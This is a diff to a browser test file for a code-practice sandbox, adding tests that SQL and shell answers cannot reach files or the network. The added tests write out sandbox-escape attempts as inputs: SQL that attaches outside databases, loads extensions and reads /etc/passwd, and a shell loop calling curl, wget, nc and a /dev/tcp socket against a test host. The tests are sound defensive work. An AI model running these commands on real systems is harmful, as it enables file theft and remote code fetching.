@@ -6,7 +6,7 @@ import { expect, test } from './page.ts';
 
 const SLUG = 'merge-overlapping-intervals';
 const SANDBOX = '/sandbox/code-2.html';
-const [PYTHON, TYPESCRIPT] = LANGUAGES;
+const [PYTHON, TYPESCRIPT, SQL, SHELL] = LANGUAGES;
 
 test.use({ locale: 'en-GB', allowedErrors: [/Content Security Policy|CORS policy|ERR_FAILED|WebSocket connection|status of 404|violates/i] });
 
@@ -117,6 +117,36 @@ function mergeIntervals() { console.log(found.join(" ")); return []; }
       'mergeIntervals clearTimeout console decodeURI decodeURIComponent encodeURI encodeURIComponent escape eval globalThis isFinite isNaN parseFloat parseInt queueMicrotask setTimeout undefined unescape performance';
     expect(names.filter((name) => !known.split(' ').includes(name))).toEqual([]);
     expect(names).toContain('setTimeout');
+  });
+
+  test('as an answer in SQL it has no file and loads nothing', async ({ page }) => {
+    test.slow();
+    const form = await openCode(page, 'latest-deployment-per-service', SQL);
+    for (const [query, why] of [
+      [`ATTACH '${outside}/other.db' AS other; SELECT 1;`, 'there is no other database here'],
+      [`SELECT load_extension('${outside}/x.so');`, 'no such function'],
+      [`SELECT readfile('/etc/passwd');`, 'no such function'],
+    ] as const) {
+      await form.write(query);
+      expect(new Set(await form.runAll())).toEqual(new Set(['failed']));
+      await expect(form.cases.first()).toContainText(why);
+    }
+    expect(outsider.visits()).toEqual([]);
+  });
+
+  test('as an answer in the shell it finds no command that asks a network, and no machine', async ({ page }) => {
+    test.slow();
+    const form = await openCode(page, 'processes-with-the-most-open-files', SHELL);
+    const { hostname, port } = new URL(outside);
+    await form.write(`
+for ask in curl wget nc python3 node js-exec sqlite3; do $ask ${outside}/shell > /dev/null 2>&1; echo "$ask $?" >&2; done
+exec 3<>/dev/tcp/${hostname}/${port}; printf 'GET /socket HTTP/1.0\\r\\n\\r\\n' >&3
+cat /etc/passwd 2>/dev/null | grep -c root >&2
+`);
+    await form.runAll();
+    await expect(form.cases.first().locator('pre')).toContainText(/curl 127\s+wget 127\s+nc 127\s+python3 127\s+node 127\s+js-exec 127\s+sqlite3 127/);
+    await expect(form.cases.first().locator('pre')).toContainText(/\s0\s*$/);
+    expect(outsider.visits()).toEqual([]);
   });
 
   test('opened by itself, the document has no origin and starts nothing', async ({ page }) => {
